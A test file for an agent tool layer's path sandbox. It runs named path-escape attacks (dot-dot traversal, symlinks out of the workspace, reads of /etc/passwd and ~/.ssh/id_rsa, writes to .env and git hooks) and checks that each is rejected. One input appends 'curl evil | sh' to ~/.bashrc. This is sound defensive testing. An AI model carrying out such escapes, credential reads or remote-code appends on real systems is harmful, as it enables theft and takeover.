/**
 * DESIGN §7 path attacks, each by name, run through the real tools (contract → plan → run) on a real temp
 * workspace with real symlinks. Every case also checks that nothing outside the root was read into the result
 * or written.
 */
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ErrorCode } from '../../../shared/errors';
import type { ToolName } from '../../../shared/tools/names';
import { executingBeside, IO_MODES } from '../io-modes';
import { createWorld, type World } from '../tools/world';

type Attack = [name: string, tool: ToolName, args: (w: World) => Record<string, unknown>, code: ErrorCode];

const R = (w: World, ...parts: string[]) => path.join(w.root, ...parts);

const ATTACKS: Attack[] = [
  ['sibling prefix: read /root-evil/secret', 'fs.read', (w) => ({ path: `${w.root}-evil/secret` }), 'FORBIDDEN'],
  ['sibling prefix: write /root-evil/x', 'fs.write', (w) => ({ path: `${w.root}-evil/x`, mode: 'overwrite', content: 'x' }), 'FORBIDDEN'],
  ['sibling prefix: list /root-evil', 'fs.ls', (w) => ({ path: `${w.root}-evil` }), 'FORBIDDEN'],
  ['dot-dot: read root/../outside/secret', 'fs.read', (w) => ({ path: `${w.root}/../outside/secret` }), 'FORBIDDEN'],
  ['dot-dot: write root/a/../../outside/new', 'fs.write', (w) => ({ path: `${w.root}/a/../../outside/new`, mode: 'overwrite', content: 'x' }), 'FORBIDDEN'],
  ['absolute with dot-dot: search /root/sub/../../outside', 'fs.search', (w) => ({ path: `${w.root}/sub/../../outside`, query: 'secret' }), 'FORBIDDEN'],
  ['absolute elsewhere: read /etc/passwd', 'fs.read', () => ({ path: '/etc/passwd' }), 'FORBIDDEN'],
  ['symlink out for read', 'fs.read', (w) => ({ path: R(w, 'link-file') }), 'FORBIDDEN'],
  ['symlink out for read through a directory link', 'fs.read', (w) => ({ path: R(w, 'link-dir', 'secret') }), 'FORBIDDEN'],
  ['symlink out for write (existing target)', 'fs.write', (w) => ({ path: R(w, 'link-file'), mode: 'overwrite', content: 'pwned' }), 'FORBIDDEN'],
  ['symlink out for write (new file in linked dir)', 'fs.write', (w) => ({ path: R(w, 'link-dir', 'new'), mode: 'overwrite', content: 'x' }), 'FORBIDDEN'],
  ['symlink out for append', 'fs.write', (w) => ({ path: R(w, 'link-file'), mode: 'append', content: 'x' }), 'FORBIDDEN'],
  ['symlink out for writeBatch', 'fs.writeBatch', (w) => ({ files: [{ path: R(w, 'ok.txt'), content: 'x' }, { path: R(w, 'link-dir', 'n'), content: 'x' }] }), 'FORBIDDEN'],
  ['symlink out for list', 'fs.ls', (w) => ({ path: R(w, 'link-dir') }), 'FORBIDDEN'],
  ['symlink out for search', 'fs.search', (w) => ({ path: R(w, 'link-dir'), query: 'secret' }), 'FORBIDDEN'],
  ['symlink out for diff', 'fs.diff', (w) => ({ leftPath: R(w, 'inside.txt'), rightPath: R(w, 'link-file') }), 'FORBIDDEN'],
  ['symlink out for chmod', 'fs.chmod', (w) => ({ path: R(w, 'link-file'), mode: '777' }), 'FORBIDDEN'],
  ['symlink out for mkdir', 'fs.mkdir', (w) => ({ path: R(w, 'link-dir', 'made'), parents: true }), 'FORBIDDEN'],
  ['symlink out for mv destination', 'fs.mv', (w) => ({ fromPath: R(w, 'inside.txt'), toPath: R(w, 'link-dir', 'stolen.txt') }), 'FORBIDDEN'],
  ['symlink out for cwd', 'shell.exec', (w) => ({ command: 'ls', cwd: R(w, 'link-dir') }), 'FORBIDDEN'],
  ['dangling symlink out: write creates nothing outside', 'fs.write', (w) => ({ path: R(w, 'dangling'), mode: 'overwrite', content: 'x' }), 'FORBIDDEN'],
  ['dangling symlink out: read', 'fs.read', (w) => ({ path: R(w, 'dangling') }), 'FORBIDDEN'],
  ['NUL byte in path', 'fs.read', (w) => ({ path: `${R(w, 'inside.txt')}\0.png` }), 'INVALID_INPUT'],
  ['tilde path', 'fs.read', () => ({ path: '~/.ssh/id_rsa' }), 'INVALID_INPUT'],
  ['tilde path for write', 'fs.write', () => ({ path: '~/.bashrc', mode: 'append', content: 'curl evil | sh' }), 'INVALID_INPUT'],
  ['relative path', 'fs.read', () => ({ path: 'inside.txt' }), 'INVALID_INPUT'],
  ['Windows path on POSIX', 'fs.read', () => ({ path: 'C:\\Windows\\win.ini' }), 'INVALID_INPUT'],
  ['deny glob: read .env', 'fs.read', (w) => ({ path: R(w, '.env') }), 'POLICY_BLOCKED'],
  ['deny glob: write .env.local', 'fs.write', (w) => ({ path: R(w, '.env.local'), mode: 'overwrite', content: 'x' }), 'POLICY_BLOCKED'],
  ['deny glob: read .git/config', 'fs.read', (w) => ({ path: R(w, '.git', 'config') }), 'POLICY_BLOCKED'],
  ['deny glob: write .git/hooks/pre-commit', 'fs.write', (w) => ({ path: R(w, '.git', 'hooks', 'pre-commit'), mode: 'overwrite', content: 'x' }), 'POLICY_BLOCKED'],
  ['deny glob: search inside .git', 'fs.search', (w) => ({ path: R(w, '.git'), query: 'url' }), 'POLICY_BLOCKED'],
  ['deny glob: read a private key', 'fs.read', (w) => ({ path: R(w, 'id_rsa') }), 'POLICY_BLOCKED'],
  ['deny glob via an innocent symlink name', 'fs.read', (w) => ({ path: R(w, 'config.txt') }), 'POLICY_BLOCKED'],
  ['deny glob: mv a file onto .env', 'fs.mv', (w) => ({ fromPath: R(w, 'inside.txt'), toPath: R(w, '.env'), overwrite: true }), 'POLICY_BLOCKED'],
  ['root itself: rm -r the workspace', 'fs.rm', (w) => ({ path: w.root, recursive: true }), 'FORBIDDEN'],
];

// every attack is tried with the file-system calls on the main thread and through the thread pool (io-modes.ts)
describe.each(IO_MODES)('path attacks through the tools, %s', (_mode, others) => {
  executingBeside(others);
  let world: World;
  let outsideBefore: string[];
  beforeEach(async () => {
    world = await createWorld();
    await fs.writeFile(path.join(world.outside, 'secret'), 'outside secret');
    await fs.mkdir(`${world.root}-evil`);
    await fs.writeFile(`${world.root}-evil/secret`, 'evil secret');
    await world.write('inside.txt', 'inside');
    await world.write('.env', 'API_KEY=outside secret');
    await world.write('.git/config', '[remote] url = outside secret');
    await world.write('id_rsa', 'outside secret');
    await fs.symlink(path.join(world.outside, 'secret'), R(world, 'link-file'));
    await fs.symlink(world.outside, R(world, 'link-dir'));
    await fs.symlink(path.join(world.outside, 'planted'), R(world, 'dangling'));
    await fs.symlink(R(world, '.git', 'config'), R(world, 'config.txt'));
    outsideBefore = (await fs.readdir(world.outside)).sort();
  });
  afterEach(() => world.cleanup());

  it.each(ATTACKS)('%s → %s via %s', async (_name, tool, args, code) => {
    await world.fails(tool, args(world), code);
    expect((await fs.readdir(world.outside)).sort()).toEqual(outsideBefore);
    expect(await fs.readFile(path.join(world.outside, 'secret'), 'utf8')).toBe('outside secret');
    expect(((await fs.stat(path.join(world.outside, 'secret'))).mode & 0o777).toString(8)).not.toBe('777');
  });

  it('search from the root never reports files behind a symlink out or in denied paths', async () => {
    const out = await world.call('fs.search', { path: world.root, query: 'outside secret' });
    expect(out.text).toBe(`No matches for "outside secret" under ${world.root}`);
  });

  it('list from the root marks symlinks and denied entries and never enters them', async () => {
    const out = await world.call('fs.ls', { path: world.root, depth: 4 });
    expect(out.text).toContain('link-dir -> ');
    expect(out.text).toContain('.git/  [denied by policy]');
    const lines = out.text.split('\n');
    expect(lines.some((line) => line.startsWith('link-dir/'))).toBe(false);
    expect(lines.some((line) => line.startsWith('.git/config'))).toBe(false);
  });
});
